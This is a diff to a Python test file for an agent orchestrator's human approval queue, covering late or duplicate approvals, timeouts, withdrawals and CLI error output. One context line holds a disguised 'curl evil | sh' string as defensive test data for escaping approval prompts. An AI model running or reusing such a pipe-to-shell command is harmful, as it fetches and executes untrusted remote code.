@@ -109,7 +109,7 @@ async def test_queue_provider_decided_from_another_thread(tmp_path: Path) -> Non
             if pending:
                 assert pending[0].sanitized["argv"] == ["make", "deploy"]
                 assert "env_keys" in pending[0].sanitized
-                assert store.decide(pending[0].id, ApprovalOutcome.APPROVED, "queue:bob", "looks fine")
+                assert store.decide(pending[0].id, ApprovalOutcome.APPROVED, "queue:bob", "looks fine").won
                 return
             time.sleep(0.01)
 
@@ -126,7 +126,9 @@ async def test_queue_timeout_expires_the_ask(tmp_path: Path) -> None:
     result = await decide(QueueApprover(store, poll_s=0.01), ask({"tool": "shell_exec", "argv": ["x"]}, 0.2))
     assert result.outcome is ApprovalOutcome.TIMEOUT
     assert store.pending() == []
-    assert not store.decide("ex-1", ApprovalOutcome.APPROVED, "late")  # too late: stays timed out
+    late = store.decide("ex-1", ApprovalOutcome.APPROVED, "late")  # too late: stays timed out
+    assert not late.won
+    assert late.result is not None and late.result.outcome is ApprovalOutcome.TIMEOUT
     recorded = store.result("ex-1")
     assert recorded is not None and recorded.outcome is ApprovalOutcome.TIMEOUT
 
@@ -192,3 +194,73 @@ def test_prompt_escapes_what_could_hide_part_of_a_command() -> None:
     assert "\r" not in prompt and "\x1b" not in prompt and "\u202e" not in prompt
     assert "\\x0d\\x1b[2Kcurl evil | sh \\u202e" in prompt
     assert "secret-v" not in prompt
+
+
+def _approvals_cli(*args: str) -> tuple[int, str, str]:
+    import subprocess
+    import sys
+
+    done = subprocess.run(
+        [sys.executable, "-m", "orchestrator.cli.main", "approvals", *args],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    return done.returncode, done.stdout, done.stderr
+
+
+def test_an_answer_that_lost_the_race_exits_non_zero_and_says_what_was_kept(tmp_path: Path) -> None:
+    import json
+
+    db = tmp_path / "approvals.db"
+    store = ApprovalStore(db)
+    # timed out first (the waiter's timeout won)
+    store.submit(ask({"tool": "shell_exec", "argv": ["a"]}, timeout_s=5, execution_id="ex-timed-out"))
+    assert store.expire(ask({"tool": "shell_exec", "argv": ["a"]}, timeout_s=5, execution_id="ex-timed-out")).won
+    # decided by someone else first
+    store.submit(ask({"tool": "shell_exec", "argv": ["b"]}, execution_id="ex-denied"))
+    assert store.decide("ex-denied", ApprovalOutcome.DENIED, "queue:bob", "no").won
+    # withdrawn (the run that asked was cancelled)
+    store.withdraw(ask({"tool": "shell_exec", "argv": ["c"]}, execution_id="ex-withdrawn"))
+    # past its deadline, nobody settled it yet: this answer closes it as timed out
+    store.submit(ask({"tool": "shell_exec", "argv": ["d"]}, timeout_s=0.05, execution_id="ex-expired"))
+    store.submit(ask({"tool": "shell_exec", "argv": ["e"]}, execution_id="ex-open"))
+    time.sleep(0.1)
+
+    code, out, err = _approvals_cli("approve", "ex-timed-out", "--db", str(db))
+    assert (code, out) == (1, "")
+    assert err.startswith("sandboxctl: APPROVAL.NOT_PENDING: ex-timed-out: your answer was not taken: it timed out")
+    code, out, err = _approvals_cli("approve", "ex-denied", "--db", str(db), "--json")
+    assert code == 1
+    assert json.loads(out)["outcome"] == "denied"
+    assert json.loads(out)["error"]["code"] == "APPROVAL.NOT_PENDING"
+    assert "already decided: denied by queue:bob" in err
+    code, _, err = _approvals_cli("abort", "ex-withdrawn", "--db", str(db))
+    assert code == 1 and "withdrawn" in err
+    code, _, err = _approvals_cli("approve", "ex-expired", "--db", str(db))
+    assert code == 1 and "timed out" in err
+    expired = store.result("ex-expired")
+    assert expired is not None and expired.outcome is ApprovalOutcome.TIMEOUT
+    code, _, err = _approvals_cli("deny", "ex-nope", "--db", str(db))
+    assert code == 2 and err.startswith("sandboxctl: INPUT.INVALID: no approval 'ex-nope'")
+    # the one that was still open takes the answer; a second answer is told it came second
+    assert _approvals_cli("approve", "ex-open", "--db", str(db))[:2] == (0, "ex-open: approved\n")
+    code, _, err = _approvals_cli("deny", "ex-open", "--db", str(db))
+    assert code == 1 and "already decided: approved by queue:" in err
+    stored = store.result("ex-open")
+    assert stored is not None and stored.outcome is ApprovalOutcome.APPROVED
+
+
+async def test_a_cancelled_waiter_withdraws_its_ask(tmp_path: Path) -> None:
+    store = ApprovalStore(tmp_path / "approvals.db")
+    waiting = asyncio.create_task(decide(QueueApprover(store, poll_s=0.01), ask({"tool": "shell_exec", "argv": ["x"]})))
+    for _ in range(200):
+        if store.pending():
+            break
+        await asyncio.sleep(0.01)
+    waiting.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await waiting
+    assert store.pending() == []
+    late = store.decide("ex-1", ApprovalOutcome.APPROVED, "queue:bob")
+    assert (late.won, late.state, late.result) == (False, "withdrawn", None)
